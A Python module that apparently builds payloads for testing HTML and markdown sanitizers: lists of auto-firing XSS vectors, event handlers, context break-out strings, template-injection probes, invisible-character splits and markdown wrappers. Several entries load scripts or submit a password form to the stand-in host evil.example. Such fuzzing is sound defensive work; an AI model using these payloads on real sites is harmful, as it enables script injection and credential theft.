"""What the payloads are put together from."""

from __future__ import annotations

import re

CODE = "hit()"

# Run by themselves, without anybody's doing.
FIRING = [
    f"<script>{CODE}</script>",
    f"<img src=x onerror={CODE}>",
    f"<svg onload={CODE}>",
    f"<svg/onload={CODE}>",
    f"<iframe src='javascript:top.{CODE}'></iframe>",
    f"<iframe srcdoc='<script>top.{CODE}</script>'></iframe>",
    f"<details open ontoggle={CODE}><summary>x</summary></details>",
    f"<input autofocus onfocus={CODE}>",
    f"<video><source onerror={CODE}></video>",
    f"<audio src=x onerror={CODE}></audio>",
    f"<style onload={CODE}></style>",
    f"<link rel=stylesheet href=x onerror={CODE}>",
    f"<object data=x onerror={CODE}></object>",
    f"<embed src=x onerror={CODE}>",
    f"<script src=x onerror={CODE}></script>",
    f"<svg><script>{CODE}</script></svg>",
    f"<svg><animate onbegin={CODE} attributeName=x dur=1s></svg>",
    f"<svg><image href=x onerror={CODE}></svg>",
    f"<marquee onstart={CODE}>x</marquee>",
    f"<body onload={CODE}>",
    f"<textarea autofocus onfocus={CODE}>x</textarea>",
    f"<b contenteditable autofocus onfocus={CODE}>x</b>",
    f"<x tabindex=1 autofocus onfocus={CODE}>x</x>",
    f"<input type=image src=x onerror={CODE}>",
    f"<picture><source srcset=x><img onerror={CODE} src=x></picture>",
    f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={CODE}>x</b>",
    f"<math><mtext><img src=x onerror={CODE}></mtext></math>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CODE}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/><script src=x></script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "<img src=//evil.example/x.png>",
    "<img srcset='//evil.example/x.png 1x'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=image href=//evil.example/x.png>",
    "<link rel=prefetch href=//evil.example/x>",
    "<style>@import '//evil.example/x.css'; *{background:url(//evil.example/x.png)}</style>",
    "<p style='background:url(//evil.example/x.png)'>x</p>",
    "<video poster=//evil.example/x.png></video>",
    "<audio src=//evil.example/x.ogg autoplay></audio>",
    "<iframe src=//evil.example/></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<table background=//evil.example/x.png><tr><td>x</td></tr></table>",
    "<body background=//evil.example/x.png>",
    "<input type=image src=//evil.example/x.png>",
    "<svg><image href=//evil.example/x.png></svg>",
    "<svg><use href='//evil.example/x.svg#x'/></svg>",
    "<svg><style>*{fill:url(//evil.example/x)}</style></svg>",
    "<form action=//evil.example/><input name=password><button>Send</button></form>",
    "<button popovertarget=menu formaction=//evil.example/>x</button>",
]

# Every content handler that browsers know, whatever element it is meant for.
_EVENTS = """
abort afterprint animationcancel animationend animationiteration animationstart auxclick
beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload
beforexrselect begin blur cancel canplay canplaythrough change click close command
contentvisibilityautostatechange contextlost contextmenu contextrestored copy cuechange cut
dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied end
ended error focus focusin focusout formdata fullscreenchange fullscreenerror gotpointercapture
hashchange input invalid keydown keypress keyup languagechange load loadeddata loadedmetadata
loadstart lostpointercapture message messageerror mousedown mouseenter mouseleave mousemove
mouseout mouseover mouseup mousewheel offline online pagehide pagereveal pageshow pageswap paste
pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout
pointerover pointerrawupdate pointerup popstate progress ratechange repeat reset resize scroll
scrollend scrollsnapchange scrollsnapchanging search securitypolicyviolation seeked seeking
select selectionchange selectstart slotchange stalled storage submit suspend timeupdate toggle
touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun
transitionstart unhandledrejection unload volumechange waiting webkitanimationstart
webkittransitionend wheel
"""
HANDLERS = [f"on{event}" for event in _EVENTS.split()]

CARRIERS = [
    "<a href=/ {}>x</a>",
    "<b {}>x</b>",
    "<img src=x {}>",
    "<svg {}></svg>",
    "<body {}>",
    "<p {}>x",
    "<input autofocus {}>",
    "<details open {}>x</details>",
    "<video src=x {}></video>",
    "<table {}><tr><td {}>x",
    "<custom-element {}>x</custom-element>",
    "<math {}>x</math>",
]
ADDRESSED = [
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<a href="{}" target=_blank>x</a>',
    "<area shape=default href='{}'>",
    "<form action='{}'><button>x</button></form>",
    "<button formaction='{}'>x</button>",
    "<iframe src='{}'></iframe>",
    "<object data='{}'></object>",
    "<embed src='{}'>",
    "<img src='{}'>",
    "<math href='{}'>x</math>",
    "<base href='{}'>",
    "<svg><a xlink:href='{}'><text y=9>x</text></a></svg>",
    "<link rel=stylesheet href='{}'>",
    "<svg><animate attributeName=href values='{}' /></svg>",
    "<a ping='{}' href=/>x</a>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<svg><use href='{}'/></svg>",
    "<input type=submit formaction='{}'>",
    "<blockquote cite='{}'>x</blockquote>",
]

# Out of whatever a text may have been put into.
BREAK_OUTS = [
    '"',
    "'",
    "`",
    ">",
    '">',
    "'>",
    '"/>',
    "-->",
    "--!>",
    "]]>",
    "*/",
    "%>",
    "?>",
    "}}",
    "</",
    "</title>",
    "</textarea>",
    "</script>",
    "</SCRIPT >",
    "</style>",
    "</template>",
    "</noscript>",
    "</select>",
    "</option></select>",
    "</svg>",
    "</math>",
    "</a>",
    "</pre></code>",
    "</iframe>",
    "</button></form>",
    "</main></body></html>",
    '"}]}</script>',
    "<\\/script>",
    "\u2028",
    "\\",
    '\\"',
    "\\u0022",
    "\\u003c/script>",
    "<!--",
    "<!--<script>",
    "<![CDATA[",
    "&quot;>",
    "&#34;>",
]

# What looks like code to some template, rule or parser on the way.
_AROUND = """
{{ }}  {{{ }}}  {% %}  {# #}  ${ }  #{ }  <%= %>  <?= ?>  [[ ]]  %( )s  %s%( )d  {0. }  `${ }`
'; //  "; //  }); //  </script><script> </script>  {{self. }}  {{config. }}  $$ $$
{%raw%} {%endraw%}
"""
TEMPLATES = [
    pair.replace(" ", code)
    for code in (CODE, f"constructor.constructor('{CODE}')()", f"<img src=x onerror={CODE}>", "7*7")
    for pair in re.split(r"  |\n", _AROUND.strip())
]

UNSEEN = [
    *(chr(code) for code in (*range(0x21), 0x7F, 0x85, 0xA0, 0xAD, 0x61C, 0x180E, 0x2028, 0x2029)),
    *("\u200b", "\u200d", "\u200e", "\u202e", "\u2060", "\ufeff", "\ufe0f", "\ufffd", "\U000e0041"),
    *("/", "\\", "&#0;", "&#8;", "&#x200b;", "<!-- -->", "%00", "\x02klzzwxh:0000\x03"),
]
SPLIT = [
    tuple(whole.split("~"))
    for whole in (
        f"<scr~ipt>{CODE}</script>",
        f"<script~>{CODE}</script>",
        f"<~script>{CODE}</script>",
        f"<img src=x onerr~or={CODE}>",
        f"<img src=x onerror~={CODE}>",
        f"<img~src=x onerror={CODE}>",
        f"<img src=x ~onerror={CODE}>",
        f"<svg~onload={CODE}>",
        f"<a href='java~script:{CODE}'>x</a>",
        f"[x](java~script:{CODE})",
        f"[x](~javascript:{CODE})",
        f"[x](javascript~:{CODE})",
    )
]

WRAPPINGS = [
    "[{}](/x)",
    "![{}](/x.png)",
    '[x](/x "{}")',
    "[x](/x '{}')",
    '![x](/x.png "{}")',
    "[{}]",
    "[x][y]\n\n[y]: /x '{}'",
    "[x][y]\n\n[y]: /x ({})",
    "[{}]: /x",
    "[x]: {}",
    "<{}>",
    "# {}",
    "{}\n===",
    "- {}\n  - {}",
    "1. {}",
    "> {}",
    "> > {}",
    ">! {}",
    ">!{}\n>!\n>! {}",
    "| a | b |\n|---|:-:|\n| {} | `{}` |",
    "|{}|x|\n|-|-|\n|x|x|",
    "`{}`",
    "``{}``",
    "    {}",
    "```\n{}\n```",
    "```html\n{}\n```",
    "```{}\nx\n```",
    "~~~ {} ~~~",
    "```html\n{}",
    "**{}**",
    "*{}*",
    "_{}_",
    "https://x.example/{}",
    "www.x.example/{}",
    "<https://x.example/{}>",
    "<a@x.example{}>",
    "x{: onclick=hit() }\n\n{}",
    "[^1]\n\n[^1]: {}",
    "*[x]: {}\n\nx",
    "[TOC]\n\n{}",
    "\\{}",
    "{}\\",
    "\x02wzxhzdk:0\x03{}",
    "\x02klzzwxh:0000\x03{}",
    "\x02amp\x03{}",
    "<div markdown=1>{}</div>",
    "{}\n\n{}",
    "a\n\n{}\n\nb",
    "  {}  \n",
    "***{}***",
    "--- {} ---",
    "![]({})",
    "[]({})",
]
